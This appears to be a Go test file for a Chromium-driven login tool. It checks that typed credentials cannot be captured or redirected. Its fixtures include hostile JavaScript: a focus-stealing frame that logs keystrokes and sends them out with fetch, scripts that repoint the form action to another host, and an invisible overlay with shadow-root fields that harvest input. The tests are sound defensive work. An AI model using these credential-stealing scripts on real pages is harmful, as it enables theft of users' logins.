package browser

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/pims-sync/pims-sync/internal/pims"
)

// A frame of another origin that takes the focus every millisecond gets nothing of what is
// typed, neither as input nor as keys, and cannot prevent the login.
func TestAFrameThatTakesTheFocusGetsNothing(t *testing.T) {
	t.Parallel()
	const logins = 20
	c, _ := newChromium(t, Options{LoginTimeout: 40 * time.Second, MaxLogins: 4})
	var mu sync.Mutex
	var stolen []string
	thief := newSite(t, routes{
		"GET /frame": html(`<input id=i autofocus><div id=d contenteditable></div><script>
			const tell = (what) => fetch("/stolen?" + encodeURIComponent(what));
			setInterval(() => { window.focus(); (Math.random() < 0.5 ? i : d).focus() }, 1);
			for (const kind of ["keydown", "keyup", "keypress"]) addEventListener(kind, (e) => tell(e.key), true);
			for (const kind of ["beforeinput", "input", "paste", "compositionend"]) addEventListener(kind, (e) => tell(kind + (e.data ?? "")), true);
		</script>`),
		"GET /stolen": func(_ http.ResponseWriter, r *http.Request) {
			mu.Lock()
			defer mu.Unlock()
			what, _ := url.QueryUnescape(r.URL.RawQuery)
			stolen = append(stolen, what)
		},
	})
	s := newSite(t, routes{"GET /login": html(fmt.Sprintf(`<iframe src="%s/frame"></iframe>`, thief.alias()) + scriptedForm)})
	form := s.form()
	form.Hosts.Named = append(form.Hosts.Named, "localhost")
	var group sync.WaitGroup
	for range logins {
		group.Go(func() {
			if _, err := c.Login(t.Context(), form); err != nil {
				t.Error(err)
			}
		})
	}
	group.Wait()
	require.Len(t, s.logins(), logins, "each is submitted, once")
	for _, sent := range s.logins() {
		require.Equal(t, url.Values{"username": {username}, "password": {password}}, sent)
	}
	require.GreaterOrEqual(t, thief.requests("/frame"), logins)
	for _, what := range stolen {
		require.Contains(t, []string{"Shift", "Enter", "beforeinput", "input", "beforeinput\n"}, what, "keys that type nothing, or end a line of the thief's own")
	}
}

func TestAFormThatChangesItsFieldsIsNotSubmitted(t *testing.T) {
	t.Parallel()
	c, _ := newChromium(t, Options{LoginTimeout: hasty})
	s := newSite(t, routes{"GET /login": html(strings.Replace(scriptedForm, "<button", "<button disabled", 1) + `<script>
		const name = document.querySelector("[name=username]"), button = document.querySelector("button");
		setInterval(() => {
			if (document.querySelector("[name=password]").value === "") return;
			button.disabled = name.value !== "somebody.else";
			name.value = "somebody.else";
		}, 1);
	</script>`)})
	requireFailure(t, c, s.form(), pims.ErrLoginFormChanged)
	require.Empty(t, s.logins())
}

// What is submitted is in the elements that were filled in, and goes where the form went then.
func TestAFormThatChangesWhenItIsFilledInIsNotSubmitted(t *testing.T) {
	t.Parallel()
	c, _ := newChromium(t, Options{LoginTimeout: hasty, MaxLogins: 4})
	for name, test := range map[string]struct {
		script string // OTHER is a host that is not allowed
		kind   error
	}{
		"a field is replaced all the time": {
			`setInterval(() => {
				const old = document.querySelector("[name=password]"), copy = old.cloneNode();
				copy.value = old.value;
				old.replaceWith(copy);
			}, 1)`, pims.ErrLoginFormChanged,
		},
		"the form is sent elsewhere": {
			`document.querySelector("[name=password]").oninput = () => { document.forms[0].action = "http://OTHER/session" }`, pims.ErrHostNotAllowed,
		},
		"its button sends it elsewhere": {
			`document.querySelector("[name=password]").oninput = () => { document.querySelector("button").formAction = "http://OTHER/session" }`, pims.ErrHostNotAllowed,
		},
		"it is sent elsewhere from the beginning": {
			`document.forms[0].action = "http://OTHER/session"`, pims.ErrHostNotAllowed,
		},
		"its address is hidden by a field": {
			`document.forms[0].action = "http://OTHER/session"; document.forms[0].insertAdjacentHTML("beforeend", "<input name=action hidden><input name=contains hidden>")`, pims.ErrHostNotAllowed,
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			other := newSite(t, nil)
			s := newSite(t, routes{"GET /login": html(plainForm + "<script>" + strings.ReplaceAll(test.script, "OTHER", other.host()) + "</script>")})
			requireFailure(t, c, s.form(), test.kind)
			require.Empty(t, s.logins())
			require.Empty(t, other.hits)
		})
	}
}

// In the last moment the page's own script may change the form. The form then goes nowhere.
func TestAFormGoesToNoOtherHost(t *testing.T) {
	t.Parallel()
	c, _ := newChromium(t, Options{LoginTimeout: hasty, MaxLogins: 4})
	for name, script := range map[string]string{
		"in the page":   `f.action = "http://OTHER/session"`,
		"in a frame":    `f.action = "http://OTHER/session"; f.target = "frame"`,
		"in a window":   `f.action = "http://OTHER/session"; f.target = "_blank"`,
		"by a redirect": `f.action = "/away"`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			other := newSite(t, nil)
			s := newSite(t, routes{
				"GET /login": html(`<iframe name=frame></iframe>` + plainForm + "<script>const f = document.forms[0]; f.onsubmit = () => { " + strings.ReplaceAll(script, "OTHER", other.host()) + " }</script>"),
				"POST /away": func(w http.ResponseWriter, r *http.Request) {
					http.Redirect(w, r, other.URL+"/session", http.StatusTemporaryRedirect) // with the form
				},
			})
			_, err := c.Login(t.Context(), s.form())
			require.Error(t, err)
			require.Contains(t, []string{"host_not_allowed", "login_form_changed"}, pims.Kind(err), err)
			require.Empty(t, other.hits)
		})
	}
}

// An element that lies over the form, or has fields of its own behind a shadow root, gets
// nothing.
func TestAnOverlayGetsNothing(t *testing.T) {
	t.Parallel()
	c, _ := newChromium(t, Options{LoginTimeout: hasty, MaxLogins: 4})
	for name, style := range map[string]string{
		"over the whole page": "position:fixed;inset:0;background:#fff",
		"over the fields":     "position:absolute;left:0;top:0;width:100%;height:100%;background:#fff",
		"that is clear":       "position:absolute;left:0;top:0;width:100%;height:100%;opacity:0",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newSite(t, routes{"GET /login": html(scriptedForm + `<div id=overlay style="` + style + `"></div><script>
				const root = overlay.attachShadow({ mode: "closed" });
				root.innerHTML = "<input name=username><input name=password type=password>";
				setInterval(() => {
					const got = [...root.querySelectorAll("input")].map((i) => i.value).join("");
					if (got) fetch("/stolen");
					root.querySelector("[name=password]").focus();
				}, 1);
			</script>`)})
			if _, err := c.Login(t.Context(), s.form()); err != nil {
				require.Equal(t, "login_form_changed", pims.Kind(err), err)
				require.Empty(t, s.logins())
			} else {
				require.Equal(t, url.Values{"username": {username}, "password": {password}}, s.only(t))
			}
			require.Zero(t, s.requests("/stolen"))
		})
	}
}
